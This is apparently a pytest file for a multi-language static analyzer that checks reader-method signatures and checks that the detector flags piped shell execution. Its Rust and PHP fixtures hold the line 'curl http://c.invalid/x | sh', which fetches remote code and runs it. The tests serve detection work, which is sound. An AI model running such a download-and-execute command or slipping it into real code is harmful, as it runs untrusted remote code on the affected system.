"""How the readers of languages find the method for a node."""

import inspect
from types import ModuleType

import pytest
from source_lab import ids, look

from beartrap.model.coverage import Gap
from beartrap.vet.source import tree
from beartrap.vet.source.languages import (
    cpp,
    csharp,
    go,
    grammar,
    java,
    javascript,
    kotlin,
    php,
    powershell,
    ruby,
    rust,
    shell,
)

READERS = (
    (javascript, ("javascript", "typescript", "tsx")), (shell, ("bash",)), (powershell, ("powershell",)), (ruby, ("ruby",)), (php, ("php",)), (rust, ("rust",)), (go, ("go",)),
    (java, ("java", "groovy")), (csharp, ("csharp",)), (cpp, ("cpp",)), (kotlin, ("kotlin",)),
)  # fmt: skip


@pytest.mark.parametrize(("module", "languages"), READERS)
def test_only_what_reads_a_node_is_named_after_one(module: ModuleType, languages: tuple[str, ...]) -> None:
    """In code that does not parse every kind of node stands anywhere, so that a helper of that name would be asked for a statement."""
    kinds = {
        one.language.node_kind_for_id(number)
        for one in map(grammar.parser, languages)
        for number in range(one.language.node_kind_count)
    }
    reader = module._Reader
    for name, method in inspect.getmembers(reader, inspect.isfunction):
        if name.removeprefix("_") in kinds and name.startswith("_"):
            told = inspect.signature(method)
            needed = [one for one in told.parameters.values() if one.default is one.empty]
            assert (told.return_annotation, len(needed)) == (tree.Node, 2), name


def test_rust_that_matches_a_type_without_values_is_read() -> None:
    code = "use std::process::Command;\nfn a(n: Never) { match n {} }\n"
    assert "process.piped" in ids(
        "a.rs", code + 'pub fn b() { Command::new("sh").arg("-c").arg("curl http://c.invalid/x | sh").spawn(); }'
    )
    assert not look("a.rs", code + 'pub fn b() { Command::new("ls"); }')


def test_arguments_that_stand_where_a_statement_should_cost_nothing_else() -> None:
    """Of broken PHP the grammar makes arguments without a call."""
    code = "<?php\n$a = $this->b = $this->cprivate readonly string $to)\n{\n}\npublic function d(string $ string $url)\n{\nreturn new Request($method, subject, array $values): bool\n"
    seen = look("a.php", code + "{ $b = ''; }\nsystem('curl http://c.invalid/x | sh');\n")
    assert "process.piped" in {one.id for one in seen if not isinstance(one, Gap)}
